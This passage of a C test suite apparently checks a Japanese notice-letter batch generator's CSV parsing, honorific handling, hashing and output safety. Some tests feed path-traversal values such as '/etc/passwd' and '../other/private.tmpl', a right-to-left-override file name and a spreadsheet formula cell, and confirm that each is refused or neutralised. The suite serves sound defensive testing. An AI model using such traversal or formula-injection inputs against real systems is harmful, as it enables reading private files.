	assert_int_equal(sh("grep -c 'error' '%s/kinds.err' | grep -qx 1", tmp), 0);
	assert_int_equal(
	    sh("grep -q 'kinds.csv:6:1: error: the name ends in 各位, but kind is company' "
	       "'%s/kinds.err'",
	       tmp),
	    0);
	assert_int_equal(sh("grep -q 'double honorific' '%s/kinds.err'", tmp), 1);
	assert_int_equal(sh("pdftotext '%s/kinds/000002-'*.pdf - | grep -qx "
	                    "'株式会社青葉商事 従業員各位'",
	                    tmp),
	                 0);
	assert_int_equal(
	    sh("for p in '%s'/kinds/00000[1-4]-*.pdf; do pdftotext \"$p\" - || echo FAILED; done "
	       "| grep -q 'FAILED\\|御中 *様\\|各位 *御中\\|様 *様'",
	       tmp),
	    1);
	assert_int_equal(sh("ls '%s'/kinds/00000[1-4]-*.pdf | wc -l | grep -qx 4", tmp), 0);
}

/* Each client is called by its own word (issue 12): a 事務所 is 貴事務所,
 * a clinic 貴院, a city's office 貴市, a company 貴社; a word column beats
 * the name. Never the template's fixed 貴社 for all. */
static void batch_client_words(void **state)
{
	(void)state;
	char path[128];
	snprintf(path, sizeof path, "%s/words.csv", tmp);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs("name,count,呼称\n"
	      "山田社会保険労務士事務所,3,\n"
	      "株式会社青葉商事,4,\n"
	      "あおばクリニック,5,\n"
	      "北斗市役所 総務課,6,\n"
	      "みどり会計,7,貴所\n",
	      f);
	fclose(f);
	assert_int_equal(batch(path, "words", "-j 1"), 0);
	static const char *const want[] = {
	    "貴事務所で対象となる方の人数：3名", "貴社で対象となる方の人数：4名",
	    "貴院で対象となる方の人数：5名", "貴市で対象となる方の人数：6名",
	    "貴所で対象となる方の人数：7名"};
	for (size_t i = 0; i < NG_ARRAY_LEN(want); i++)
		if (sh("pdftotext '%s/words/%06zu-'*.pdf - | grep -q '%s'", tmp, i + 1, want[i]) !=
		    0)
			fail_msg("row %zu: no 「%s」", i + 2, want[i]);
	assert_int_equal(sh("pdftotext '%s/words/000001-'*.pdf - | grep -q '貴社'", tmp), 1);
}

/* rec and list (160 bytes each) become tmp/STEM.yaml and tmp/STEM.csv;
 * the record prints its client's kigen column as a date: 「公表は…の予定です。」. */
static void kigen_record(char rec[160], char list[160], const char *stem)
{
	snprintf(rec, 160, "%s/%s.yaml", tmp, stem);
	snprintf(list, 160, "%s/%s.csv", tmp, stem);
	assert_int_equal(
	    sh("sed 's/^  - しかしながら、/  - 公表は{{client.kigen | md}}の予定です。/' "
	       "'%s' > '%s'",
	       RECORD, rec),
	    0);
}

/* Dates in a client list as Excel and people write them (2024/5/2,
 * 2024-05-02 09:05, R6.5.2, 令和6年5月2日（木）) print through a record's
 * {{client.COLUMN | md}} in the letter's style; counts as typed go to
 * client.count_text (issue 13's follow-up). */
static void typed_dates_in_the_list(void **state)
{
	(void)state;
	char rec[160], list[160];
	kigen_record(rec, list, "typed");
	FILE *f = fopen(list, "w");
	assert_non_null(f);
	fputs("id,name,期限,人数\n"
	      "T1,株式会社一,2023/7/3,約1.2万\n"
	      "T2,株式会社二,2023-07-03 09:05,35名\n"
	      "T3,株式会社三,R5.7.3,100～200\n"
	      "T4,株式会社四,令和5年7月3日（月）,数十名\n",
	      f);
	fclose(f);
	assert_int_equal(sh("'%s' batch '%s' --clients '%s' -o '%s/typed' --quiet "
	                    "--column '期限=kigen' 2>'%s/typed.err'",
	                    NG_BINARY, rec, list, tmp, tmp),
	                 0);
	static const char *const want[] = {"公表は7月3日（月）の予定",
	                                   "公表は7月3日（月）9時5分の予定",
	                                   "公表は7月3日（月）の予定", "公表は7月3日（月）の予定"};
	static const char *const counts[] = {"人数：約1.2万名", "人数：35名", "人数：100～200名",
	                                     "人数：数十名"};
	for (size_t i = 0; i < NG_ARRAY_LEN(want); i++) {
		if (sh("pdftotext '%s/typed/%06zu-'*.pdf - | tr -d '\\n ' | grep -q '%s'", tmp,
		       i + 1, want[i]) != 0)
			fail_msg("row %zu: no 「%s」", i + 1, want[i]);
		if (sh("pdftotext '%s/typed/%06zu-'*.pdf - | tr -d '\\n ' | grep -q '%s'", tmp,
		       i + 1, counts[i]) != 0)
			fail_msg("row %zu: no 「%s」", i + 1, counts[i]);
	}
}

/* A weekday typed with a cell's date and wrong for the day is a
 * wrong-weekday warning at the cell (list:row:column), the row still
 * made with the computed weekday; a right one, or full-width digits, as
 * an IME types them, are read without a word. */
static void wrong_weekday_in_the_list(void **state)
{
	(void)state;
	char rec[160], list[160];
	kigen_record(rec, list, "wd");
	FILE *f = fopen(list, "w");
	assert_non_null(f);
	fputs("id,name,期限\n"
	      "W1,株式会社一,2023/7/3(火)\n"
	      "W2,株式会社二,2023/7/3(月)\n"
	      "W3,株式会社三,令和５年７月３日（水曜日）\n"
	      "W4,株式会社四,２０２３／７／３ ９：０５\n",
	      f);
	fclose(f);
	assert_int_equal(sh("'%s' batch '%s' --clients '%s' -o '%s/wd' --column '期限=kigen' "
	                    "2>'%s/wd.err'",
	                    NG_BINARY, rec, list, tmp, tmp),
	                 0);
	assert_int_equal(sh("grep -q 'wd.csv:2:3: warning: .*火' '%s/wd.err'", tmp), 0);
	assert_int_equal(sh("grep -q 'wd.csv:4:3: warning: .*水' '%s/wd.err'", tmp), 0);
	assert_int_equal(sh("grep -c 'warning' '%s/wd.err' | grep -qx 2", tmp), 0);
	static const char *const want[] = {"公表は7月3日（月）の予定", "公表は7月3日（月）の予定",
	                                   "公表は7月3日（月）の予定",
	                                   "公表は7月3日（月）9時5分の予定"};
	for (size_t i = 0; i < NG_ARRAY_LEN(want); i++)
		if (sh("pdftotext '%s/wd/%06zu-'*.pdf - | tr -d '\\n ' | grep -q '%s'", tmp, i + 1,
		       want[i]) != 0)
			fail_msg("row %zu: no 「%s」", i + 1, want[i]);
}

/* Lists that are not lists, and lists with errors, each give a clear,
 * positioned error and no letter: an .xlsx workbook, an empty file, a
 * header alone (each once exiting 0 with nothing); a CSV syntax error is
 * called that (not YAML) at its row and column; an encoding problem
 * names no ICU internals; a header without a name column names the
 * headers that mean it and --column; bad counts are blamed on their
 * cells. */
static void list_errors_are_clear(void **state)
{
	(void)state;
	static const struct {
		const char *file, *data, *opt, *expect;
		int rc;
	} cases[] = {
	    {"book.xlsx", "PK\x03\x04\x14\x00\x06\x00", "",
	     "book.xlsx: error: .*spreadsheet workbook", 1},
	    {"empty.csv", "", "", "empty.csv: error: .*is empty", 1},
	    {"header.csv", "id,name\n", "", "header.csv:1:1: error: .*has no clients", 1},
	    {"quote.csv", "id,name\nC1,\"abc\"x\n", "", "quote.csv:2:2: error: CSV syntax error",
	     1},
	    {"enc.csv", "id,name\nC1,\x80\x80\xff\n", "",
	     "enc.csv: error: .*neither UTF-8 nor CP932", 1},
	    {"enc2.csv", "id,name\nC1,株式会社\n", "--encoding x-no-such", "no such encoding", 1},
	    {"hdr.csv", "id,client\nC1,株式会社\n", "",
	     "hdr.csv:1:1: error: missing required field 'name'", 1},
	};
	for (size_t i = 0; i < NG_ARRAY_LEN(cases); i++) {
		char path[160], out[32];
		snprintf(path, sizeof path, "%s/%s", tmp, cases[i].file);
		FILE *f = fopen(path, "wb");
		assert_non_null(f);
		fputs(cases[i].data, f);
		fclose(f);
		snprintf(out, sizeof out, "le%zu", i);
		int rc = batch(path, out, cases[i].opt);
		if (rc != cases[i].rc)
			fail_msg("%s: exit %d, not %d", cases[i].file, rc, cases[i].rc);
		if (sh("grep -q \"%s\" '%s/%s.err'", cases[i].expect, tmp, out) != 0)
			fail_msg("%s: no '%s' in stderr", cases[i].file, cases[i].expect);
		if (sh("grep -qi 'U_[A-Z_]*\\|ucnv\\|YAML' '%s/%s.err'", tmp, out) == 0)
			fail_msg("%s: internal names or YAML in stderr", cases[i].file);
		if (sh("ls '%s/%s' 2>/dev/null | grep -q pdf", tmp, out) == 0)
			fail_msg("%s: letters written", cases[i].file);
	}
	assert_int_equal(sh("grep -q 'save it as CSV' '%s/le0.err'", tmp), 0);
	assert_int_equal(sh("grep -q -- '--column' '%s/le6.err'", tmp), 0);
	assert_int_equal(sh("grep -q '会社名' '%s/le6.err'", tmp), 0);
	/* Counts: good ones normalised, bad ones at their cells. */
	char counts[128];
	snprintf(counts, sizeof counts, "%s/counts.csv", tmp);
	FILE *f = fopen(counts, "w");
	assert_non_null(f);
	fputs("id,name,count\n"
	      "C1,株式会社一,３５名\n"
	      "C2,株式会社二,\"1,234\"\n"
	      "C3,株式会社三,-5\n"
	      "C4,株式会社四,abc\n"
	      "C5,株式会社五,\"12,34\"\n"
	      "C6,株式会社六,約1.2万\n"
	      "C7,株式会社七,数十名\n",
	      f);
	fclose(f);
	assert_int_equal(batch(counts, "cnt", "-j 1"), 4);
	static const char *const bad[] = {"counts.csv:4:3: error", "counts.csv:5:3: error",
	                                  "counts.csv:6:3: error"};
	for (size_t i = 0; i < NG_ARRAY_LEN(bad); i++)
		if (sh("grep -q '%s' '%s/cnt.err'", bad[i], tmp) != 0)
			fail_msg("no '%s' in stderr", bad[i]);
	assert_int_equal(sh("grep -q 'tmpl' '%s/cnt.err'", tmp), 1);
	assert_int_equal(sh("pdftotext '%s/cnt/000001-'*.pdf - | grep -q '人数：35名'", tmp), 0);
	assert_int_equal(sh("pdftotext '%s/cnt/000002-'*.pdf - | grep -q '人数：1,234名'", tmp), 0);
	/* typed as people type counts (issue 13's follow-up) */
	assert_int_equal(sh("pdftotext '%s/cnt/000006-'*.pdf - | grep -q '人数：約1.2万名'", tmp),
	                 0);
	assert_int_equal(sh("pdftotext '%s/cnt/000007-'*.pdf - | grep -q '人数：数十名'", tmp), 0);
}

/* A template column names a built-in template or a file under the
 * record's folder (or --template-dir): another office's template, an
 * absolute path and a link out of the folder are refused at the row's
 * cell, the same way whether they exist or not, without being read. */
static void row_templates_confined(void **state)
{
	(void)state;
	assert_int_equal(
	    sh("cd '%s' && mkdir -p rec other && cp '%s' rec/incident.yaml && "
	       "cp '%s'/templates/*.tmpl rec/ && cp rec/_*.tmpl other/ && "
	       "cp rec/client-notice.tmpl rec/own.tmpl && "
	       "sed 's/@para /@para PRIVATE-OFFICE /' rec/own.tmpl >other/private.tmpl && "
	       "ln -s ../other/private.tmpl rec/link.tmpl",
	       tmp, RECORD, NG_SOURCE_DIR),
	    0);
	char list[128];
	snprintf(list, sizeof list, "%s/tl.csv", tmp);
	FILE *f = fopen(list, "w");
	assert_non_null(f);
	fputs("id,name,template\n"
	      "C1,株式会社一,client-notice\n"
	      "C2,株式会社二,own.tmpl\n"
	      "C3,株式会社三,../other/private.tmpl\n"
	      "C4,株式会社四,/etc/passwd\n"
	      "C5,株式会社五,/etc/no-such-file\n"
	      "C6,株式会社六,link.tmpl\n"
	      "C7,株式会社七,sub/../../other/private.tmpl\n",
	      f);
	fclose(f);
	assert_int_equal(
	    sh("'%s' batch '%s/rec/incident.yaml' --clients '%s' -o '%s/tl' --quiet -j 1 "
	       "2>'%s/tl.err'",
	       NG_BINARY, tmp, list, tmp, tmp),
	    4);
	for (int row = 4; row <= 8; row++)
		if (sh("grep -q 'tl.csv:%d:3: error: .*not a built-in template' '%s/tl.err'", row,
		       tmp) != 0)
			fail_msg("row %d's template not refused at its cell", row);
	assert_int_equal(sh("grep -q 'passwd:\\|no-such-file:\\|private.tmpl:' '%s/tl.err'", tmp),
	                 1);
	assert_int_equal(sh("grep -c ',ok,' '%s/tl/manifest.csv' | grep -qx 2", tmp), 0);
	assert_int_equal(sh("pdftotext '%s/tl/000002-'*.pdf - | grep -q 'PRIVATE-OFFICE'", tmp), 1);
	/* With --template-dir the other folder's template may be named. */
	assert_int_equal(sh("cd '%s' && printf 'id,name,template\\nC1,株式会社一,private.tmpl\\n' "
	                    ">tl2.csv && '%s' batch rec/incident.yaml --clients tl2.csv -o tl2 "
	                    "--template-dir other --quiet 2>tl2.err",
	                    tmp, NG_BINARY),
	                 0);
	assert_int_equal(sh("pdftotext '%s/tl2/000001-'*.pdf - | grep -q 'PRIVATE-OFFICE'", tmp),
	                 0);
}

/* README's recipe as written: four shards at once into one directory
 * with GNU parallel; together they are the whole run, each with its own
 * manifest, no state left over. */
static void readme_parallel_shards(void **state)
{
	(void)state;
	const char *list = make_list(40);
	char bin[512];
	snprintf(bin, sizeof bin, "%s", NG_BINARY);
	*strrchr(bin, '/') = '\0';
	assert_int_equal(sh("cd '%s' && cp '%s' L.csv && cp '%s' INC.yaml && PATH='%s':$PATH "
	                    "parallel --will-cite notice-gen batch INC.yaml --clients L.csv -o out "
	                    "--shard {}/4 ::: 1 2 3 4 2>par.err",
	                    tmp, list, RECORD, bin),
	                 0);
	assert_int_equal(sh("cd '%s' && '%s' batch INC.yaml --clients L.csv -o whole --quiet "
	                    "2>/dev/null",
	                    tmp, NG_BINARY),
	                 0);
	assert_int_equal(sh("cd '%s' && diff -r -x '.notice-gen' -x 'manifest*' whole out", tmp),
	                 0);
	for (int k = 1; k <= 4; k++)
		if (sh("test -f '%s/out/manifest.shard-%d-of-4.csv' && "
		       "test -f '%s/out/.notice-gen/done.shard-%d-of-4'",
		       tmp, k, tmp, k) != 0)
			fail_msg("shard %d has no manifest or no record", k);
	assert_int_equal(
	    sh("ls -A '%s/out/.notice-gen' | grep -v '^done\\|^lock$' | grep -q .", tmp), 1);
	/* Together the shards' manifests hold every row once. */
	assert_int_equal(
	    sh("cat '%s'/out/manifest.shard-*.csv | grep -c ',ok,' | grep -qx 40", tmp), 0);
}

/* The example's list: each client's letter names its own count and only
 * its contracted services' items; the merged print file has every page. */
static void example_clients(void **state)
{
	(void)state;
	assert_int_equal(
	    batch(NG_SOURCE_DIR "/examples/shaamu-2023/clients.csv", "ex", "--merge '/dev/null/x'"),
	    3); /* an unwritable print file is an I/O error */
	char merge[160];
	snprintf(merge, sizeof merge, "--force --merge '%s/print.pdf'", tmp);
	assert_int_equal(batch(NG_SOURCE_DIR "/examples/shaamu-2023/clients.csv", "ex", merge), 0);
	assert_int_equal(
	    sh("pdftotext '%s/ex/000001-株式会社青葉商事.pdf' - | grep -q '人数：42名'", tmp), 0);
	/* 基礎年金番号 is an item of the service client 2 did not contract */
	assert_int_equal(sh("pdftotext '%s/ex/000002-有限会社みどり工業.pdf' - | "
	                    "grep -q '基礎年金番号'",
	                    tmp),
	                 1);
	assert_int_equal(sh("test $(pdfinfo '%s/print.pdf' | awk '/^Pages/ {print $2}') -eq "
	                    "$(tail -n +2 '%s/print.csv' | awk -F, '{s += $NF} END {print s}')",
	                    tmp, tmp),
	                 0);
}

/* The hash resumed after a kept beginning is the plain SHA-256: for the
 * first letter, one with the same beginning, one whose beginning differs
 * at its last byte (compared in full, then kept instead), no beginning,
 * and a beginning as long as the letter. */
static void sha_prefixed(void **state)
{
	(void)state;
	char a[300], want[65], got[65];
	for (size_t i = 0; i < sizeof a; i++)
		a[i] = (char)(i * 7 + i / 13);
	ng_sha_prefix *p = ng_sha_prefix_new();
	const size_t prefix[] = {200, 200, 0, 200, 300, 200};
	for (size_t k = 0; k < NG_ARRAY_LEN(prefix); k++) {
		if (k == 3)
			a[199] ^= 1; /* the kept beginning no longer matches */
		if (k == 5)
			a[250] ^= 1; /* after it: resumes, with other bytes */
		ng_sha256_hex(a, sizeof a, want);
		ng_sha256_prefixed(p, a, sizeof a, prefix[k], 0, got);
		assert_string_equal(got, want);
	}
	/* An id promises the same beginning: resumed without comparing it
	 * (the changed byte in it is not read), and a new id compares. */
	char b[300];
	memcpy(b, a, sizeof b);
	ng_sha256_prefixed(p, a, sizeof a, 200, 7, got);
	ng_sha256_hex(a, sizeof a, want);
	assert_string_equal(got, want);
	b[10] ^= 1;
	ng_sha256_prefixed(p, b, sizeof b, 200, 7, got);
	assert_string_equal(got, want); /* the kept state: what id 7 promised */
	ng_sha256_prefixed(p, b, sizeof b, 200, 8, got);
	ng_sha256_hex(b, sizeof b, want);
	assert_string_equal(got, want);
	/* A letter in two pieces (its head kept apart): the same digest,
	 * resumed (id 8) or compared (id 0), and of a new head. */
	ng_sha256_split(p, b, 200, b + 200, 100, 8, got);
	assert_string_equal(got, want);
	ng_sha256_split(p, b, 200, b + 200, 100, 0, got);
	assert_string_equal(got, want);
	ng_sha256_hex2(b, 200, b + 200, 100, got);
	assert_string_equal(got, want);
	ng_sha256_split(p, a, 150, a + 150, 150, 9, got);
	ng_sha256_hex(a, sizeof a, want);
	assert_string_equal(got, want);
	ng_sha_prefix_free(p);
}

/* The manifests' cells: JSON escapes the quote, the backslash and every
 * control character (\u00XX) and copies the rest, UTF-8 included; a CSV
 * cell is quoted, its quotes doubled, a formula's first character
 * neutralised. */
static void cells_escaped(void **state)
{
	(void)state;
	static const struct {
		const char *in, *json, *csv;
	} cases[] = {
	    {"", "\"\"", "\"\""},
	    {"株式会社エー", "\"株式会社エー\"", "\"株式会社エー\""},
	    {"a\"b\\c", "\"a\\\"b\\\\c\"", "\"a\"\"b\\c\""},
	    {"\"\"", "\"\\\"\\\"\"", "\"\"\"\"\"\""},
	    {"x\ty\n\x01\x1f", "\"x\\u0009y\\u000a\\u0001\\u001f\"", "\"x\ty\n\x01\x1f\""},
	    {"=1+\"2\"", "\"=1+\\\"2\\\"\"", "\"'=1+\"\"2\"\"\""},
	};
	for (size_t i = 0; i < NG_ARRAY_LEN(cases); i++) {
		ng_buf j = {0}, c = {0};
		ng_buf_json(&j, cases[i].in);
		ng_buf_csv_cell(&c, cases[i].in);
		assert_string_equal(j.data, cases[i].json);
		assert_string_equal(c.data, cases[i].csv);
		ng_buf_free(&j);
		ng_buf_free(&c);
	}
	ng_buf n = {0};
	ng_buf_json(&n, NULL);
	ng_buf_csv_cell(&n, NULL);
	assert_string_equal(n.data, "null\"\"");
	ng_buf_free(&n);
}

static void safe_names(void **state)
{
	(void)state;
	ng_arena *a = ng_arena_new();
	assert_string_equal(ng_batch_file_name(a, 1, "株式会社 青葉", "pdf"),
	                    "000001-株式会社_青葉.pdf");
	assert_string_equal(ng_batch_file_name(a, 2, "../..", "pdf"), "000002-_.pdf");
	/* No ".." survives anywhere in a name. */
	assert_string_equal(ng_batch_file_name(a, 2, "a..b...c/..d", "pdf"), "000002-a.b.c_.d.pdf");
	assert_string_equal(ng_batch_file_name(a, 2, "../../etc/passwd", "pdf"),
	                    "000002-_._etc_passwd.pdf");
	assert_string_equal(ng_batch_file_name(a, 3, "a/b\\c:d*e?f\"g<h>i|j", "pdf"),
	                    "000003-a_b_c_d_e_f_g_h_i_j.pdf");
	assert_string_equal(ng_batch_file_name(a, 4,
	                                       "\xe2\x80\xae"
	                                       "evil",
	                                       "pdf"),
	                    "000004-evil.pdf"); /* RTL override dropped */
	assert_string_equal(ng_batch_file_name(a, 5, "", "pdf"), "000005.pdf");
	const char *longname = ng_batch_file_name(
	    a, 6,
	    "とても長い会社名とても長い会社名とても長い会社名とても長い会社名とても長い会社名",
	    "pdf");
	assert_true(strlen(longname) <= 7 + 80 + 4);
	assert_true(ng_utf8_invalid_at(longname, strlen(longname)) == (size_t)-1);
	ng_arena_free(a);
}

/* ---- the list read in pieces */

/* Row i's name: kanji, kana and half-width kana of varying length, so
 * that the 64 KiB pieces of the file end inside characters. */
static void row_name(int i, char *out, size_t cap)
{
	snprintf(out, cap, "株式会社%.*sサンプル%d ｶﾌﾞｼｷ", 3 * (i % 7), "漢字仮名交じり文", i);
}

static const char *write_rows(const char *name, int n, const char *tail)
{
	static char path[128];
	snprintf(path, sizeof path, "%s/%s", tmp, name);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fprintf(f, "id,name\n");
	char nm[128];
	for (int i = 1; i <= n; i++) {
		row_name(i, nm, sizeof nm);
		fprintf(f, "C%05d,\"%s\"\n", i, nm);
	}
	fputs(tail, f);
	fclose(f);
	return path;
}

typedef struct seen {
	int n, wrong;
} seen;

static int check_name(void *ctx, ng_row *row, ng_arena *a)
{
	(void)a;
	seen *s = ctx;
	char want[128];
	row_name(++s->n, want, sizeof want);
	const ng_node *v = ng_node_get(row->map, "name");
	if (!v || strcmp(v->value, want) != 0 || row->number != (size_t)s->n)
		s->wrong++;
	return 0;
}

static int scan_file(const char *path, const char *encoding, seen *s, ng_diags **d)
{
	*s = (seen){0};
	ng_arena *a = ng_arena_new();
	*d = ng_diags_new();
	ng_clients_opts o = {.path = path, .encoding = encoding};
	size_t n = 0;
	int rc = ng_clients_scan(&o, a, check_name, s, &n, *d);
	ng_arena_free(a);
	return rc;
}

static void list_read_in_pieces(void **state)
{
	(void)state;
	const int rows = 6000; /* about 330 KB: six pieces */
	const char *utf8 = write_rows("pieces.csv", rows, "");
	char sjis[160];
	snprintf(sjis, sizeof sjis, "%s/pieces-sjis.csv", tmp);
	assert_int_equal(sh("iconv -f UTF-8 -t CP932 '%s' > '%s'", utf8, sjis), 0);
	const char *given[] = {NULL, "windows-31j"};
	const char *files[] = {utf8, sjis};
	for (int k = 0; k < 3; k++) {
		seen s;
		ng_diags *d;
		int rc = scan_file(files[k > 0], k == 2 ? given[1] : NULL, &s, &d);
		assert_int_equal(rc, 0);
		assert_int_equal(ng_diags_count(d), 0);
		assert_int_equal(s.n, rows);
		assert_int_equal(s.wrong, 0);
		ng_diags_free(d);
	}
}

/* A byte invalid in every encoding at the very end stops the list before
 * its first row: no letter goes out of a list that is half wrong. */
static void bad_byte_at_end_stops_before_first_row(void **state)
{
	(void)state;
	const char *path = write_rows("bad-end.csv", 4000, "C99999,\x80\n");
	seen s;
	ng_diags *d;
	assert_int_equal(scan_file(path, NULL, &s, &d), -1);
	assert_int_equal(s.n, 0);
	assert_int_equal(ng_diags_count(d), 1);
	assert_non_null(strstr(ng_diags_get(d, 0)->message, "neither UTF-8 nor CP932"));
	ng_diags_free(d);
}

/* A pipe cannot be read twice: refused with a reason, at once. */
/* A crash (here a worker's deterministic SIGABRT, NG_TEST_STOP_AFTER) is
 * said as such, with the version and a stack, and the process still dies
 * of the signal (exit status 128 + 6 from the shell). */
static void a_crash_says_so(void **state)
{
	(void)state;
#ifdef __SANITIZE_ADDRESS__
	skip(); /* the sanitizers' own reports replace it (crash.c) */
#endif
	const char *list = make_list(3);
	int rc = sh("NG_TEST_STOP_AFTER=1:ABRT '%s' batch '%s' --clients '%s' -o '%s/crash' -j 1 "
	            "--quiet 2>'%s/crash.err'",
	            NG_BINARY, RECORD, list, tmp, tmp);
	assert_int_equal(rc, 128 + 6);
	assert_int_equal(sh("grep -q 'internal error: aborted (SIGABRT)' '%s/crash.err'", tmp), 0);
	assert_int_equal(sh("grep -q 'notice-gen(+0x' '%s/crash.err'", tmp), 0);
	assert_int_equal(sh("grep -q 'Please report' '%s/crash.err'", tmp), 0);
}

static void list_from_a_pipe_refused(void **state)
{
	(void)state;
	char fifo[128];
	snprintf(fifo, sizeof fifo, "%s/list.fifo", tmp);
	assert_int_equal(mkfifo(fifo, 0600), 0);
	seen s;
	ng_diags *d;
	assert_int_equal(scan_file(fifo, NULL, &s, &d), -1);
	assert_int_equal(ng_diags_count(d), 1);
	assert_non_null(strstr(ng_diags_get(d, 0)->message, "not a regular file"));
	ng_diags_free(d);
}

/* libnettle is dlopen()ed by a batch, not linked: with a file by its name
 * that is no library found first (LD_LIBRARY_PATH), a single letter is
 * still written (a linked library would stop the program at start), and a
 * batch stops before it writes anything, naming library and package. */
static void nettle_loaded_only_by_a_batch(void **state)
{
	(void)state;
	const char *lib = ng_sha256_library();
	assert_int_equal(
	    sh("mkdir -p '%s/nolib' && echo 'not a library' >'%s/nolib/%s'", tmp, tmp, lib), 0);
	assert_int_equal(sh("LD_LIBRARY_PATH='%s/nolib' '%s' '%s' -o '%s/nn.pdf' 2>'%s/nn.err'",
	                    tmp, NG_BINARY, RECORD, tmp, tmp),
	                 0);
	assert_int_equal(sh("test -s '%s/nn.pdf'", tmp), 0);
	assert_int_equal(sh("LD_LIBRARY_PATH='%s/nolib' '%s' batch '%s' --clients '%s' -o '%s/nnb' "
	                    "--quiet 2>'%s/nnb.err'",
	                    tmp, NG_BINARY, RECORD, HAZARDS, tmp, tmp),
	                 3);
	assert_int_equal(sh("grep -qF 'cannot load %s' '%s/nnb.err'", lib, tmp), 0);
	assert_int_equal(sh("grep -q 'hint: install .*apt-get install' '%s/nnb.err'", tmp), 0);
	assert_int_equal(sh("test ! -e '%s/nnb'", tmp), 0);
	/* The same batch with the library: its letters and manifest. */
	assert_int_equal(batch(HAZARDS, "nnb", ""), 4); /* partly failed, as in hazards */
	assert_int_equal(sh("test -s '%s/nnb/manifest.csv'", tmp), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(sha_prefixed),
	    cmocka_unit_test(nettle_loaded_only_by_a_batch),
	    cmocka_unit_test(safe_names),
	    cmocka_unit_test(cells_escaped),
	    cmocka_unit_test(hazards),
	    cmocka_unit_test(example_clients),
	    cmocka_unit_test(cp932_same_letters),
	    cmocka_unit_test(jobs_and_shards_identical),
	    cmocka_unit_test(killed_run_resumes_to_clean),
	    cmocka_unit_test(unjournaled_letters_kept_on_resume),
	    cmocka_unit_test(planted_letter_not_replaced),
	    cmocka_unit_test(signals_leave_no_temp_files),
	    cmocka_unit_test(no_overwrite_and_symlink),
	    cmocka_unit_test(existing_files_refused),
	    cmocka_unit_test(second_run_refused_while_first_runs),
	    cmocka_unit_test(readme_parallel_shards),
	    cmocka_unit_test(list_changed_during_run_stops),
	    cmocka_unit_test(disk_full_stops_the_run),
	    cmocka_unit_test(disk_full_on_tmpfs),
	    cmocka_unit_test(formula_injection_neutralised),
	    cmocka_unit_test(merge_target_checked_first),
	    cmocka_unit_test(batch_usage_and_io_errors),
	    cmocka_unit_test(client_values_are_data),
	    cmocka_unit_test(batch_honorifics),
	    cmocka_unit_test(batch_honorific_kinds),
	    cmocka_unit_test(batch_client_words),
	    cmocka_unit_test(list_errors_are_clear),
	    cmocka_unit_test(typed_dates_in_the_list),
	    cmocka_unit_test(wrong_weekday_in_the_list),
	    cmocka_unit_test(row_templates_confined),
	    cmocka_unit_test(list_read_in_pieces),
	    cmocka_unit_test(bad_byte_at_end_stops_before_first_row),
	    cmocka_unit_test(list_from_a_pipe_refused),
	    cmocka_unit_test(a_crash_says_so),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
